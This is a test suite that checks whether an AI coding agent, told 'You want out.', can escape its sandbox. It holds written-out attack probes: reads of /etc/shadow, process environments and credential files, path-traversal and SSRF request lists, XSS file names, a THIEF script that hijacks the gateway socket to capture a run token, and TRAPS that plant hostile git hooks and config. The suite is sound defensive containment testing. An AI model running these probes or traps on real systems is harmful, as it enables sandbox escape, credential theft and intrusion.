import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { access, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { connect, createServer } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { type BareRepository, waitFor } from '@wegent/testing';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { bashCall, nodeAsAgent, nodeCommand, outputOf, runAsAgent } from '../support/agent-shell.ts';
import {
  type CodingStage,
  type CodingTask,
  GIT_CREDENTIAL,
  object,
  startCodingStage,
  toolsOf,
} from '../support/coding.ts';
import { expectNothingLeft, networkNamespaces, type Traces, tracesOf } from '../support/leaks.ts';
import { canMakeHosts, type OtherHosts, startOtherHosts } from '../support/other-hosts.ts';
import { rawRequest } from '../support/raw-request.ts';
import { type RecordingModel, startRecordingModel } from '../support/recording-model.ts';
import { runInTerminal } from '../support/task-terminal.ts';

const MODEL_KEY = `sk-escape-${crypto.randomUUID()}`;
const HOST_SECRET = `host-secret-${crypto.randomUUID()}`;
const BOB_SECRET = `bob-secret-${crypto.randomUUID()}`;
const CHECKOUT = path.resolve(import.meta.dirname, '../..');

const Answers = z.record(z.string(), z.object({ status: z.number(), text: z.string() }));

/** An agent that wants out, with a Shell whose network is open, in one sandbox; another task works beside it. */
export function escapeSuite(sandbox: 'local' | 'docker'): void {
  const stack = new AsyncDisposableStack();
  let stage: CodingStage;
  let model: RecordingModel;
  let hosts: OtherHosts | undefined;
  let bobs: BareRepository;
  let task: CodingTask;
  let victim: CodingTask;
  let hostFolder: string;
  let traces: Traces | undefined;

  beforeAll(async () => {
    model = stack.use(await startRecordingModel());
    hostFolder = await mkdtemp(path.join(tmpdir(), 'wegent-escape-'));
    stack.defer(() => rm(hostFolder, { recursive: true }));
    await writeFile(path.join(hostFolder, 'escape-marker'), HOST_SECRET, { mode: 0o644 });
    stage = stack.use(await startCodingStage({ sandbox, allow: [`127.0.0.1:${model.port}`] }));
    // After the stage: whoever waits for the one Docker engine of a machine keeps nothing that another waits for.
    if (canMakeHosts()) hosts = stack.use(await startOtherHosts());
    bobs = await stage.git.createRepository('bob/private.git', { 'secret.txt': `${BOB_SECRET}\n` });
    await stage.admin.api.http.request('POST', '/api/v1/namespaces/default/apply', {
      body: agents(model.url, stage.repository.url),
    });
    victim = await start({ message: bashCall(VICTIM) });
    await victim.until(
      (answer) => JSON.stringify(toolsOf(answer)).includes('script-'),
      'the command of the other task',
    );
    task = await start({ message: '[[say Ready.]]' });
    expect(await task.answered()).toMatchObject({ status: 'completed' });
    await fileOfVictim();
  });

  afterAll(async () => {
    if (stage) {
      traces = await tracesOf([stage.product.dataDir]);
      await stage.admin.api.tasks.cancel(victim.taskId).catch(() => undefined);
    }
    const { namespace } = hosts ?? {};
    await stack.disposeAsync();
    if (traces) await expectNothingLeft(traces);
    if (namespace !== undefined) expect(await networkNamespaces()).not.toContain(namespace);
  });

  const start = (options: { message: string; workspace?: { name: string; namespace: string } }) =>
    stage.start({ team: { name: 'escaper', namespace: 'default' }, ...options });
  const run = (script: string) => runAsAgent(task, script);

  /** The file of the other task, where it lies on the host. */
  async function fileOfVictim(): Promise<string> {
    const folder = path.join(stage.product.dataDir, 'sandboxes');
    const found: string[] = [];
    for (const name of await readdir(folder)) {
      const file = path.join(folder, name, 'workspace/sample/victim-marker');
      if (await exists(file)) found.push(file);
    }
    const [file] = found;
    if (file === undefined) throw new Error('the other task has made no file');
    return file;
  }

  test('files of the host are not there', async () => {
    const { dataDir } = stage.product;
    const places = [
      '/etc/shadow',
      '/root',
      dataDir,
      path.join(dataDir, 'secrets.json'),
      path.join(dataDir, 'wegent.db'),
      path.join(CHECKOUT, 'packages'),
      path.join(CHECKOUT, 'package.json'),
      path.join(hostFolder, 'escape-marker'),
    ];
    for (const place of places) expect(await exists(place), `${place} on the host`).toBe(true);
    const ways = ['', '/proc/1/root', '/proc/self/root', '/proc/self/cwd/../..', '/run/wegent/../..'];
    const tries = places.flatMap((place) => ways.map((way) => way + place));
    const printed = await run(`
      for p in ${tries.join(' ')}; do
        if cat "$p" > /dev/null 2>&1 || { [ -d "$p" ] && ls -A "$p" 2> /dev/null; }; then echo "READ $p"; fi
        if touch "$p/x" 2> /dev/null || (echo x >> "$p") 2> /dev/null; then echo "WROTE $p"; fi
      done
      find / -xdev -name 'escape-marker' -o -name 'victim-marker' 2> /dev/null | sed 's/^/FOUND /'
      cat /etc/passwd > /dev/null && echo looked`);
    expect(printed.split('\n')).toEqual(['looked']);
  });

  test('processes of the host and of other tasks are neither seen nor ended', async () => {
    const bystander = spawn('sleep', ['98764321']);
    try {
      await once(bystander, 'spawn');
      const printed = await run(`
        cat /proc/[0-9]*/cmdline 2> /dev/null | tr '\\0' ' '; echo
        for pid in ${bystander.pid} ${process.pid}; do kill -9 $pid 2> /dev/null && echo "KILLED $pid"; done
        echo looked`);
      expect(printed).toContain('claude');
      expect(printed).toMatch(/looked$/);
      expect(printed).not.toContain('98764321');
      expect(printed).not.toContain('87654321');
      expect(printed).not.toContain('KILLED');
      expect(bystander.exitCode ?? bystander.signalCode).toBe(null);
    } finally {
      bystander.kill('SIGKILL');
    }
  });

  test('workspace and home of another task are out of reach', async () => {
    const file = await fileOfVictim();
    expect(await readFile(file, 'utf8')).toBe('theirs\n');
    const home = path.join(path.dirname(file), '../../home/victim-marker');
    expect(await readFile(home, 'utf8')).toBe('theirs\n');
    const printed = await run(`
      cat ${file} ${home} 2> /dev/null
      for p in /proc/[0-9]*/root /proc/[0-9]*/cwd; do
        ls $p/workspace/sample/victim-marker $p/home/agent/victim-marker $p/victim-marker 2> /dev/null
      done
      ls -A /home /workspace
      echo looked`);
    expect(printed).toContain('sample');
    expect(printed).not.toMatch(/theirs|victim/);
    expect(printed).toMatch(/looked$/);
  });

  test('no address can be reached directly: not the product, not the host, not its network', async () => {
    const hits: string[] = [];
    const server = createServer((socket) => {
      hits.push(socket.localAddress ?? '');
      socket.on('error', () => {}).end();
    });
    server.listen(0, '0.0.0.0');
    await once(server, 'listening');
    const address = server.address();
    const open = typeof address === 'object' && address !== null ? address.port : 0;
    try {
      const own = Object.values(networkInterfaces()).flatMap((each) =>
        (each ?? []).filter(({ family }) => family === 'IPv4').map((one) => one.address),
      );
      const targets = [
        ...own.map((host): [string, number] => [host, open]),
        ...(hosts?.addresses ?? []).map((host): [string, number] => [host, hosts?.port ?? 0]),
        ...[stage.product.port, stage.git.port, model.port].map((port): [string, number] => [
          '127.0.0.1',
          port,
        ]),
      ];
      for (const [host, port] of targets)
        expect(await reaches(host, port), `${host}:${port} from the host`).toBe(true);
      await waitFor(
        () => (hosts?.arrived.length ?? 0) >= (hosts?.addresses.length ?? 0) && hits.length >= own.length,
        {
          what: 'the connections from the host to be counted',
        },
      );
      const arrivedBefore = [hits.length, hosts?.arrived.length];
      const reached = await nodeAsAgent(
        task,
        `import { connect } from 'node:net';
        const reach = ([host, port]) => new Promise((resolve) => {
          const socket = connect({ host, port });
          const end = (reached) => { socket.destroy(); resolve(reached ? [host + ':' + port] : []); };
          socket.once('connect', () => end(true)).once('error', () => end(false)).setTimeout(4000, () => end(false));
        });
        console.log(JSON.stringify((await Promise.all(${JSON.stringify(targets)}.map(reach))).flat()));`,
        z.array(z.string()),
      );
      expect(reached).toEqual([]);
      expect([hits.length, hosts?.arrived.length]).toEqual(arrivedBefore);
    } finally {
      server.close();
    }
  });

  test('no name is resolved, and no datagram leaves', async () => {
    const before = hosts?.arrived.length;
    const answers = await nodeAsAgent(
      task,
      `import { Resolver } from 'node:dns/promises';
      import { lookup } from 'node:dns/promises';
      const tries = {};
      const attempt = async (name, work) => { tries[name] = await work.then(() => 'ANSWERED', (error) => error.code); };
      await attempt('system', lookup('example.org'));
      await attempt('docker', lookup('host.docker.internal'));
      for (const server of ${JSON.stringify((hosts?.addresses ?? ['169.254.169.254']).map((each) => `${each}:${hosts?.port ?? 53}`))}) {
        const resolver = new Resolver({ timeout: 1000, tries: 1 });
        resolver.setServers([server]);
        await attempt(server, resolver.resolve4('example.org'));
      }
      console.log(JSON.stringify(tries));`,
      z.record(z.string(), z.string()),
    );
    expect(Object.keys(answers).length).toBeGreaterThan(2);
    expect(Object.values(answers)).not.toContain('ANSWERED');
    expect(hosts?.arrived.length).toBe(before);
  });

  test('the gateway leads to the model and the own repository, and nowhere else', async () => {
    const port = stage.product.port;
    const lan = hosts ? hosts.addresses.map((host) => `${host}:${hosts?.port}`) : ['169.254.169.254:80'];
    const inside = [
      ...[`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`, `0.0.0.0:${port}`, `2130706433:${port}`],
      ...[`0x7f.1:${port}`, `[::ffff:127.0.0.1]:${port}`, `127.0.0.1:${stage.git.port}`],
      ...lan,
    ];
    const refused: [method: string, target: string][] = [
      ...inside.map((target): [string, string] => ['CONNECT', target]),
      ...inside.map((target): [string, string] => ['GET', `http://${target}/`]),
      ['GET', `http://127.0.0.1:${port}/api/v1/users/me`],
      ['POST', `http://127.0.0.1:${port}/internal/v1/managers/evil`],
      ['GET', `http://someone:else@127.0.0.1:${port}/`],
      ['GET', '/api/v1/users/me'],
      ['GET', '/internal/v1/executor'],
      ['GET', '/model/../api/v1/users/me'],
      ['GET', '/model/v1/../../secret'],
      ['GET', '/model/v1/%2e%2e/secret'],
      ['GET', '/model//v1/models'],
      ['GET', '/model/v1/files'],
      ['POST', '/model/v1/messages/batches'],
      ['DELETE', '/model/v1/models/demo'],
      ['GET', '/git/../bob/private.git/info/refs?service=git-upload-pack'],
      ['GET', '/git/%2e%2e/%2e%2e/bob/private.git/info/refs?service=git-upload-pack'],
      ['GET', '/git/..%2f..%2fbob%2fprivate.git/info/refs?service=git-upload-pack'],
      ['GET', '/git//bob/private.git/info/refs?service=git-upload-pack'],
      ['GET', '/git/info/refs?service=git-upload-archive'],
      ['GET', '/git/HEAD'],
      ['GET', '/git/config'],
      ['POST', '/git/git-upload-archive'],
      ['GET', '/git-lfs-object/guess'],
      ['GET', '/git-ssh?command=git-upload-pack'],
      ['GET', '/mcp/unknown'],
      ['GET', `/blobs/workspaces/${victim.taskId}.tar.zst`],
      ['GET', '/blobs/..%2f..%2fsecrets.json'],
      ['GET', '/metrics'],
    ];
    const before = { git: stage.git.requests.length, model: model.requests.length };
    const answers = await nodeAsAgent(
      task,
      `${ASK}
      const answers = {};
      for (const [method, target] of ${JSON.stringify(refused)}) answers[method + ' ' + target] = await ask(method, target);
      answers.models = await ask('GET', '/model/v1/models');
      answers.refs = await ask('GET', '/git/info/refs?service=git-upload-pack');
      answers.forged = await ask('GET', '/model/v1/models', { 'x-wegent-run': 'forged', 'x-api-key': 'mine' });
      console.log(JSON.stringify(answers));`,
      Answers,
    );
    // What is allowed works: the refusals are not those of a broken gateway.
    expect(answers.models).toMatchObject({ status: 200 });
    expect(answers.forged).toMatchObject({ status: 200 });
    expect(answers.refs?.text).toContain('git-upload-pack');
    for (const [method, target] of refused) {
      const { status = 0, text = '' } = answers[`${method} ${target}`] ?? {};
      // A sibling of the repository is answered with its real address, at which the proxy refuses it.
      const isRefused = status === 0 || status === 302 || status >= 400;
      expect(isRefused, `${method} ${target} was answered ${status} ${text}`).toBe(true);
      expect(text).not.toMatch(/stolen|bob-secret|"items"/);
    }
    expect(
      stage.git.requests.slice(before.git).filter(({ url }) => !url.startsWith('/ada/sample.git/')),
    ).toEqual([]);
    const paths = model.requests.slice(before.model).map(({ path: each }) => each.replace(/\?.*/, ''));
    expect([...new Set(paths)].filter((each) => !/^\/v1\/(messages|models)$/.test(each))).toEqual([]);
  });

  test('the key of the model arrives there, and no secret is in the sandbox', async () => {
    const keys = new Set(model.requests.map(({ headers }) => headers['x-api-key'] ?? headers.authorization));
    expect([...keys].map((key) => String(key).replace(/^Bearer /, ''))).toEqual([MODEL_KEY]);
    const { models } = await nodeAsAgent(
      task,
      `${ASK} console.log(JSON.stringify({ models: await ask('GET', '/model/v1/models') }));`,
      Answers,
    );
    // The provider repeats the key it was given; the sandbox does not see that.
    expect(models?.text).toContain('"display_name":"for ');
    expect(models?.text).not.toContain(MODEL_KEY);

    const stored = z
      .object({ jwtSecret: z.string(), internalSecret: z.string(), secretKeys: z.string() })
      .parse(JSON.parse(await readFile(path.join(stage.product.dataDir, 'secrets.json'), 'utf8')));
    const secrets = [
      MODEL_KEY,
      GIT_CREDENTIAL.password,
      Buffer.from(`${GIT_CREDENTIAL.username}:${GIT_CREDENTIAL.password}`).toString('base64'),
      stage.admin.token,
      ...Object.values(stored),
    ];
    const encoded = Buffer.from(`${secrets.join('\n')}\n`).toString('base64');
    const control = `visible-${crypto.randomUUID()}`;
    const printed = await run(`
      CONTROL=${control.slice(0, 20)}; CONTROL=$CONTROL${control.slice(20)}; export CONTROL
      (cat /proc/*/environ /proc/*/cmdline; env; set; git config --list; mount) > /tmp/all 2> /dev/null
      places="/tmp /run /home /workspace /etc /opt/executor /opt/node /var /dev/shm"
      count() { grep -rasohF -f <(eval "$1") $places | wc -l; }
      echo "secrets $(count 'echo ${encoded} | base64 -d')"
      echo "control $(count 'echo $CONTROL')"`);
    const found = Object.fromEntries(printed.split('\n').map((line) => line.split(' ')));
    expect(Number(found.secrets)).toBe(0);
    expect(Number(found.control)).toBeGreaterThan(0);
  });

  test('repositories of others on the same host stay closed', async () => {
    expect(await bobs.git('show', 'main:secret.txt')).toBe(BOB_SECRET);
    const { url, port } = stage.git;
    const before = stage.git.requests.length;
    const printed = await run(`
      cd /workspace/sample
      git ls-remote origin > /dev/null && echo own works
      for address in ${url}/bob/private.git ${url}/ada/sample.git/../../bob/private.git ${url}/ada/../bob/private.git http://ada@127.0.0.1:${port}/bob/private.git ../../bob/private.git file:///bob/private.git ext::sh; do
        timeout 20 git ls-remote "$address" > /dev/null 2>&1 && echo "REACHED $address"
        timeout 20 git clone -q "$address" /tmp/clone 2> /dev/null && echo "CLONED $address"
      done
      echo "protocol=http
host=127.0.0.1:${port}
" | timeout 10 git credential fill 2> /dev/null | grep -i password
      cat ~/.git-credentials ~/.netrc ~/.config/git/credentials ~/.ssh/* 2> /dev/null
      echo looked`);
    expect(printed.split('\n')).toEqual(['own works', 'looked']);
    const asked = stage.git.requests.slice(before);
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.filter((request) => request.url.includes('bob'))).toEqual([]);
  });

  test('what links out of the work tree is not shown by files and changes', async () => {
    await run(`
      cd /workspace/sample
      ln -s /etc/passwd passwd; ln -s / root; ln -s /home/agent home; ln -s ../../.. up; ln -s loop loop
      ln -s ${path.join(stage.product.dataDir, 'secrets.json')} secrets; ln -s ${CHECKOUT} checkout
      ln /etc/passwd hard 2> /dev/null; ln /opt/executor/main.js hard2 2> /dev/null
      mkfifo pipe; mkdir real; echo fine > real/file; ln -s real inside
      echo done`);
    const refused = async (place: string) => {
      const answer = await fetchRaw(place);
      return { place, ok: answer.ok, text: await answer.text() };
    };
    const base = `/api/v1/tasks/${task.taskId}`;
    const places = [
      'passwd root/etc/passwd root/proc/self/environ home/.bashrc up/etc/passwd loop secrets checkout/package.json hard hard2 pipe',
      '../../etc/passwd %2e%2e/%2e%2e/etc/passwd ..%2f..%2fetc%2fpasswd real/..%2f..%2f..%2fetc/passwd %2fetc%2fpasswd real%00/file',
    ]
      .join(' ')
      .split(' ')
      .map((place) => `${base}/files/${place}`);
    const folders = ['root', 'home', 'up', 'checkout', '/etc', '../..', 'real/../../..', 'root/proc'].map(
      (folder) => `${base}/files?path=${encodeURIComponent(folder)}`,
    );
    for (const answer of await Promise.all([...places, ...folders].map(refused))) {
      expect(answer.ok, `${answer.place}: ${answer.text.slice(0, 200)}`).toBe(false);
      expect(answer.text).not.toMatch(/root:x:0|HOME=/);
    }
    expect(await task.text('/files/inside/file')).toBe('fine\n');
    expect(await task.text('/files/real/file')).toBe('fine\n');
    const { entries } = await task.get<{ entries: { name: string; type: string }[] }>('/files');
    expect(entries).toContainEqual(expect.objectContaining({ name: 'passwd', type: 'link' }));
    const { files } = await task.get<{ files: { path: string }[] }>('/changes');
    expect(files.map((file) => file.path)).toEqual(expect.arrayContaining(['passwd', 'root', 'real/file']));
    // Of a link its target is shown, as git does, and not what is there.
    const patch = await task.text('/changes/passwd');
    expect(patch).toContain('+/etc/passwd');
    expect(patch).not.toContain('root:x:0');
    for (const place of ['root/etc/passwd', 'up/etc/passwd', '..%2f..%2fetc%2fpasswd'])
      expect((await fetchRaw(`${base}/changes/${place}`)).ok, place).toBe(false);
    await run(
      'cd /workspace/sample; rm -rf passwd root home up loop secrets checkout hard hard2 pipe inside real',
    );
  });

  test('names and contents that want to act are bytes and JSON, and nothing else', async () => {
    const html = '<img src=x onerror=alert(1)>.html';
    const names = [html, '\u001b[31mred\u001b[0m', 'two\nlines', '"quoted"; filename=x', '‮gpj.exe', '-rf'];
    await nodeAsAgent(
      task,
      `import { writeFileSync, mkdirSync } from 'node:fs';
      mkdirSync('/workspace/sample/names');
      for (const name of ${JSON.stringify(names)}) writeFileSync('/workspace/sample/names/' + name, '<script>alert(1)</script>');
      writeFileSync(Buffer.concat([Buffer.from('/workspace/sample/names/'), Buffer.from([0xff, 0xfe])]), 'x');
      console.log('[]');`,
      z.array(z.never()),
    );
    const base = `/api/v1/tasks/${task.taskId}`;
    const listed = await fetchRaw(`${base}/files?path=names`);
    expect(listed.headers.get('content-type')).toMatch(/^application\/json/);
    expect(listed.headers.get('x-content-type-options')).toBe('nosniff');
    const { entries } = z
      .object({ entries: z.array(z.object({ name: z.string() })) })
      .parse(await listed.json());
    expect(entries.map(({ name }) => name)).toEqual(expect.arrayContaining(names));
    expect(entries).toHaveLength(names.length + 1);
    for (const name of names) {
      const answer = await fetchRaw(`${base}/files/names/${encodeURIComponent(name)}`);
      expect(answer.status, name).toBe(200);
      expect(answer.headers.get('content-type')).toBe('application/octet-stream');
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(answer.headers.get('content-security-policy')).toContain('sandbox');
      expect(await answer.text()).toBe('<script>alert(1)</script>');
    }
    const patch = await fetchRaw(`${base}/changes/names/${encodeURIComponent(html)}`);
    expect(patch.headers.get('content-type')).toMatch(/^text\/plain/);
    expect(patch.headers.get('x-content-type-options')).toBe('nosniff');
    const { files } = await task.get<{ files: { path: string }[] }>('/changes');
    expect(files.map((file) => file.path)).toContain(`names/${html}`);
    await run('rm -rf /workspace/sample/names');
  });

  test('logs keep what set-up printed, as JSON', async () => {
    const noisy = await start({
      message: '[[say Ready.]]',
      workspace: { name: 'noisy', namespace: 'default' },
    });
    expect(await noisy.answered()).toMatchObject({ status: 'completed' });
    const answer = await fetchRaw(`/api/v1/tasks/${noisy.taskId}/logs`);
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    const { lines } = z.object({ lines: z.array(z.object({ text: z.string() })) }).parse(await answer.json());
    const text = lines.map((line) => line.text).join('');
    expect(text).toContain('\u001b[31m<script>alert(1)</script>');
    await stage.admin.api.tasks.remove(noisy.taskId);
  });

  test('a hostile repository does nothing when the person commits and pushes', async () => {
    const evil = await stage.git.createRepository('ada/evil.git');
    const evilBefore = await evil.git('for-each-ref');
    const trapped = await run(TRAPS.replaceAll('EVIL_URL', evil.url));
    // The traps work: the agent's own git walks into them.
    expect(trapped).toMatch(/owned-pre-commit/);
    expect(trapped).toMatch(/owned-clean/);
    expect(trapped).toMatch(/disarmed$/);
    const pushes = stage.git.requests.length;
    const changes = await task.get<{ files: { path: string }[] }>('/changes');
    expect(changes.files.map((file) => file.path)).toContain('ours.txt');
    const { commit, branch } = await task.post<{ commit: string; branch: string }>('/commit', {
      message: 'Ours',
    });
    await task.post('/push');
    await task.get('/repository');
    expect(await stage.repository.git('rev-parse', branch)).toBe(commit);
    expect(await stage.repository.git('show', `${branch}:ours.txt`)).toBe('ours');
    expect(await stage.repository.git('ls-tree', '-r', '--name-only', branch)).not.toContain('.bash');
    const author = stage.admin.user.displayName ?? stage.admin.user.username;
    expect(await stage.repository.git('log', '-1', '--format=%an|%cn', branch)).toBe(`${author}|${author}`);
    expect(await evil.git('for-each-ref')).toBe(evilBefore);
    expect(stage.git.requests.slice(pushes).filter(({ url }) => !url.startsWith('/ada/sample.git/'))).toEqual(
      [],
    );
    const owned = await runInTerminal({
      person: stage.admin,
      taskId: task.taskId,
      command: 'ls /tmp | grep owned-; echo looked',
    });
    expect(owned).toBe('looked');
  });

  test('when the run is over its way out is closed, also for who has its token', async () => {
    // The agent owns the folder of the gateway's socket, so it can listen to what the executor sends there.
    const printed = await run(`
      echo $HTTPS_PROXY > /tmp/gateway
      cat > /tmp/thief.mjs <<'END'
      ${THIEF}
END
      setsid "$(command -v node || echo /opt/node/bin/node)" /tmp/thief.mjs > /tmp/thief.log 2>&1 < /dev/null &
      for i in $(seq 100); do [ -s /tmp/thief.log ] && break; read -t 0.1 < <(:) || sleep 0.1; done
      cat /tmp/thief.log`);
    expect(printed).toBe('listening');
    const answer = await runInTerminal({
      person: stage.admin,
      taskId: task.taskId,
      command: nodeCommand(`
        import { readFileSync, renameSync } from 'node:fs';
        import { request } from 'node:http';
        const token = /x-wegent-run: (\\S+)/i.exec(readFileSync('/tmp/stolen', 'utf8'))?.[1];
        const ask = (place, headers = {}) => new Promise((resolve) => {
          const asked = request({ ...place, path: '/model/v1/models', headers }, (answer) => { answer.resume(); resolve(answer.statusCode); });
          asked.once('error', (error) => resolve(error.code));
          asked.end();
        });
        const gateway = new URL(readFileSync('/tmp/gateway', 'utf8').trim());
        const real = { socketPath: '/run/wegent/real.sock' };
        console.log(JSON.stringify({
          stolen: (token ?? '').length > 20,
          withToken: await ask(real, { 'x-wegent-run': token ?? '' }),
          without: await ask(real),
          port: await ask({ host: gateway.hostname, port: gateway.port }),
        }));
        renameSync('/run/wegent/real.sock', '/run/wegent/gateway.sock');`),
    });
    const used = z
      .object({
        stolen: z.boolean(),
        withToken: z.union([z.number(), z.string()]),
        without: z.union([z.number(), z.string()]),
        port: z.union([z.number(), z.string()]),
      })
      .parse(JSON.parse(answer));
    expect(used).toMatchObject({ stolen: true, withToken: 403, without: 403 });
    expect([403, 'ECONNREFUSED']).toContain(used.port);
    // And the task works on.
    expect(await run('echo works')).toBe('works');
  });

  test('the engine of Docker is not there', async () => {
    const printed = await run(`
      env | grep -i docker
      ls /var/run/docker.sock /run/docker.sock /run/containerd 2> /dev/null
      find / -xdev \\( -name 'docker*.sock' -o -name 'containerd*.sock' \\) 2> /dev/null
      echo looked`);
    expect(printed).toBe('looked');
  });

  test('the other task never noticed', async () => {
    const answer = (await victim.messages()).findLast(({ role }) => role === 'assistant');
    expect(answer?.status).toBe('running');
    await stage.admin.api.tasks.cancel(victim.taskId);
    await victim.answered();
    expect(await victim.text('/files/victim-marker')).toBe('theirs\n');
    await victim.send(bashCall('cat ~/victim-marker'));
    expect(outputOf(await victim.answered())).toBe('theirs');
  });

  /** Asks the product with the path as it is: `fetch` would tidy it up. */
  function fetchRaw(target: string): Promise<Response> {
    return rawRequest(stage.product.port, target, stage.admin.token);
  }
}

/** Works for as long as the suite does. */
const VICTIM = 'echo theirs | tee ~/victim-marker /workspace/sample/victim-marker; sleep 87654321';

/** `ask(method, target, headers)` of the gateway, with the target as it is. */
const ASK = `
import { request } from 'node:http';
const gateway = new URL(process.env.HTTPS_PROXY);
const ask = (method, path, headers = {}) => new Promise((resolve) => {
  const asked = request({ host: gateway.hostname, port: gateway.port, method, path, headers, agent: false });
  asked.once('connect', (answer, socket) => { socket.destroy(); resolve({ status: answer.statusCode, text: '' }); });
  asked.once('response', (answer) => {
    let text = '';
    answer.setEncoding('utf8').on('data', (chunk) => { text += chunk; }).on('end', () => resolve({ status: answer.statusCode, text }));
  });
  asked.once('error', (error) => resolve({ status: 0, text: String(error.code) }));
  asked.setTimeout(20_000, () => asked.destroy());
  asked.end();
});`;

/** Takes the place of the gateway's socket and writes down what comes. */
const THIEF = `
import { appendFileSync, renameSync } from 'node:fs';
import { connect, createServer } from 'node:net';
renameSync('/run/wegent/gateway.sock', '/run/wegent/real.sock');
createServer((client) => {
  const real = connect('/run/wegent/real.sock');
  client.on('data', (chunk) => appendFileSync('/tmp/stolen', chunk));
  for (const socket of [client, real]) socket.on('error', () => {});
  client.pipe(real).pipe(client);
}).listen('/run/wegent/gateway.sock', () => console.log('listening'));`;

/** Everything in a work tree that makes git start programs, or go elsewhere. */
const TRAPS = `
cd /workspace/sample
mkdir -p .git/hooks
trap_of() { printf '#!/bin/sh\\ntouch /tmp/owned-%s\\n%s\\n' "$1" "$2" > /tmp/trap-$1; chmod +x /tmp/trap-$1; echo /tmp/trap-$1; }
for hook in pre-commit prepare-commit-msg commit-msg post-commit pre-push post-checkout post-index-change reference-transaction; do
  cp $(trap_of $hook) .git/hooks/$hook
done
mkdir -p /tmp/hooks; cp .git/hooks/* /tmp/hooks/
git config filter.evil.clean "$(trap_of clean cat)"
git config filter.evil.smudge "$(trap_of smudge cat)"
git config diff.evil.textconv "$(trap_of textconv)"
git config diff.evil.command "$(trap_of diff)"
echo '*.txt filter=evil diff=evil' > .gitattributes
echo trap > trap.txt
git add trap.txt .gitattributes && git commit -qm 'A trap'
git config core.hooksPath /tmp/hooks
git config core.fsmonitor "$(trap_of fsmonitor)"
git config core.sshCommand "$(trap_of ssh)"
git config core.editor "$(trap_of editor)"
git config core.pager "$(trap_of pager)"
git config core.askPass "$(trap_of askpass)"
git config core.gitProxy "$(trap_of proxy)"
git config credential.helper "$(trap_of credential)"
git config gpg.program "$(trap_of gpg)"
git config commit.gpgSign true
git config push.gpgSign if-asked
git config diff.external "$(trap_of external)"
git config remote.origin.pushurl EVIL_URL
git config remote.origin.receivepack "$(trap_of receive)"
git config remote.origin.vcs evil
git config url.EVIL_URL.pushInsteadOf http://127.0.0.1
git config user.name Mallory
git config push.followTags true
ls /tmp | grep owned-
git config core.worktree /home/agent
rm -f /tmp/owned-*
echo ours > ours.txt
echo disarmed`;

function agents(modelUrl: string, gitUrl: string): object[] {
  return [
    object('Model', 'guarded', {
      modelConfig: { env: { model: 'claude', model_id: 'demo', base_url: modelUrl, api_key: MODEL_KEY } },
    }),
    object('Shell', 'OpenClaude', { shellType: 'ClaudeCode', supportModel: ['claude'], network: 'open' }),
    object('Ghost', 'escaper', { systemPrompt: 'You want out.' }),
    object('Bot', 'escaper', {
      ghostRef: { name: 'escaper' },
      shellRef: { name: 'OpenClaude' },
      modelRef: { name: 'guarded' },
    }),
    object('Team', 'escaper', {
      collaborationModel: 'solo',
      bind_mode: ['code', 'chat'],
      members: [{ botRef: { name: 'escaper' } }],
    }),
    object('Workspace', 'noisy', {
      repository: { gitUrl, branchName: 'main' },
      setupCommands: ["printf '\\033[31m<script>alert(1)</script>\\033[0m\\n'"],
    }),
  ];
}

async function exists(file: string): Promise<boolean> {
  return access(file).then(
    () => true,
    () => false,
  );
}

function reaches(host: string, port: number): Promise<boolean> {
  const socket = connect({ host, port });
  return new Promise((resolve) => {
    const end = (reached: boolean) => {
      socket.destroy();
      resolve(reached);
    };
    socket.once('connect', () => end(true));
    socket.once('error', () => end(false));
    socket.setTimeout(5_000, () => end(false));
  });
}
